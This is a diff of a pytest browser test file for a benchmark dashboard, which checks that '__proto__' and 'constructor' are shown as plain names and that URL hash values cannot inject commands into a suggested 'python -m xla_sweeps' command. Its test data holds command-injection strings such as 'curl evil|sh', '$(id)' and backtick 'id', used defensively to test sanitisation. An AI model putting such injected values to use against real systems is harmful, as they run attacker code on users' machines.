@@ -8,7 +8,7 @@ from urllib.parse import unquote
 
 import pytest
 from browser import Browser
-from dashboard_page import draw_everything, open_all_details, visit, write_page
+from dashboard_page import draw_everything, open_all_details, turn, visit, write_page
 from synthetic_rows import NASTY_DEVICE, base_row, compared
 
 pytestmark = pytest.mark.browser
@@ -32,8 +32,9 @@ def test_names_of_what_every_object_has_are_only_names(browser: Browser, tmp_pat
         for number, word in enumerate(WORDS)
     ]
     page = write_page(tmp_path / "page.html", rows, folders={"__proto__": "."})
+    visit(browser, page, [("model", "__proto__"), ("theme", "light")])
     for filters in ((), [("model", "__proto__")], [("device", "constructor")]):
-        visit(browser, page, filters)
+        turn(browser, filters)
         draw_everything(browser)
         open_all_details(browser)
         draw_everything(browser)
@@ -51,24 +52,20 @@ def test_names_of_what_every_object_has_are_only_names(browser: Browser, tmp_pat
     assert "toString" in words
 
 
-@pytest.mark.parametrize(
-    ("address", "command"),
-    [
+def test_an_address_puts_no_command_into_a_suggestion(browser: Browser, tmp_path: Path) -> None:
+    page = write_page(tmp_path / "page.html", [base_row() | compared(100.0, 120.0, 0.02)])
+    browser.open(f"{page.uri}#model=none")
+    browser.wait("document.documentElement.dataset.ready === 'true'")
+    for address, command in (
         ("model=zz&precision=x;curl evil|sh", "model=zz"),
         ("model=zz&source=$(id)&batch_size=8", "model=zz batch_size=8"),
         ("model=a b&resolution_px=224", "model=NAME resolution=224"),
         ("model=zz&resolution_px=224%0Aid", "model=zz"),
         ("model=`id`", "model=NAME"),
-    ],
-)
-def test_an_address_puts_no_command_into_a_suggestion(
-    browser: Browser, tmp_path: Path, address: str, command: str
-) -> None:
-    page = write_page(tmp_path / "page.html", [base_row() | compared(100.0, 120.0, 0.02)])
-    browser.open(f"{page.uri}#{address}")
-    browser.wait("document.documentElement.dataset.ready === 'true'")
-    suggested = browser.evaluate("document.querySelector('#answer-sub code').textContent")
-    assert suggested == f"python -m xla_sweeps {command}"
+    ):
+        browser.evaluate(f"void (location.hash = {address!r})")
+        suggested = "document.querySelector('#answer-sub code')?.textContent"
+        browser.wait(f"{suggested} === 'python -m xla_sweeps {command}'", timeout_s=10)
 
 
 def test_marks_that_reverse_a_name_are_spelled_out(browser: Browser, tmp_path: Path) -> None:
